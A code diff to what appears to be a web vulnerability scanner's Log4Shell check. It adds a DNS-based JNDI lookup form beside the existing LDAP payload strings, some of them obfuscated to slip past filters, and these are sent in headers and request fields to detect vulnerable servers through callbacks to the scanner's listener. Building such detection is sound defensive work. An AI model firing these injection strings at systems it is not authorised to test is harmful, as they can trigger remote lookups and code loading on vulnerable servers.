@@ -1,5 +1,5 @@
 import type { HttpAnswer } from '#probes/http/answer.ts';
-import type { Callback, Contact } from '../../callbacks/callbacks.ts';
+import type { Callback, Callbacks, Contact } from '../../callbacks/callbacks.ts';
 import type { Check, Scan } from '../../rule.ts';
 import { defineRule } from '../../rule.ts';
 import { byDepth } from '../execution/likely.ts';
@@ -26,7 +26,23 @@ const forms: readonly Form[] = [
   ({ ldap }) => `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${ldap}}`,
   ({ ldap }) => `\${j\${lower:N}d\${lower:I}:\${lower:LD}ap://${ldap}}`,
 ];
-const formsOf = (scan: Scan) => forms.slice(0, byDepth(scan, 1, 2, forms.length));
+
+/** Names are still looked up where a firewall lets nothing else out. */
+const byName: Form = ({ dns, ldap }) => `\${jndi:dns://${dns ?? ldap}}`;
+
+const zones = new WeakMap<Callbacks, boolean>();
+
+/** Whether names lead to the listener is the same for all its tokens. */
+function hasZone(callbacks: Callbacks): boolean {
+  let known = zones.get(callbacks);
+  if (known === undefined) zones.set(callbacks, (known = callbacks.issue(() => undefined).dns !== null));
+  return known;
+}
+
+function formsOf(scan: Scan, callbacks: Callbacks): readonly Form[] {
+  const some = forms.slice(0, byDepth(scan, 1, 2, forms.length));
+  return hasZone(callbacks) ? [...some, byName] : some;
+}
 
 // Programs that look for addresses in texts look names up or fetch pages; none of them speaks LDAP.
 const isLookup = (contact: Contact) => contact.protocol === 'ldap' || contact.protocol === 'dns';
@@ -89,17 +105,18 @@ export const log4shell: Check = {
   activity: 'Looking for Log4Shell',
   run: async (scan) => {
     if (!scan.callbacks) return 'not-run';
+    const some = formsOf(scan, scan.callbacks);
     const pages = [scan.base.href, ...scan.site.pages.map(({ url }) => url)];
     const sample = [...new Set(pages)].slice(0, byDepth(scan, 1, 3, 10));
     for (const [index, url] of sample.entries())
-      for (const form of index === 0 ? formsOf(scan) : formsOf(scan).slice(0, 1)) await tryHeaders(scan, url, form);
+      for (const form of index === 0 ? some : some.slice(0, 1)) await tryHeaders(scan, url, form);
     return;
   },
   point: async (tried, scan) => {
     const { callbacks } = scan;
     // Headers are tried together.
     if (!callbacks || tried.point.kind === 'header' || tried.point.kind === 'file') return;
-    for (const form of formsOf(scan)) {
+    for (const form of formsOf(scan, callbacks)) {
       const send = (call: Callback): Promise<HttpAnswer | null> => tried.send(form(call));
       const attempt = await contactTwice(
         callbacks,
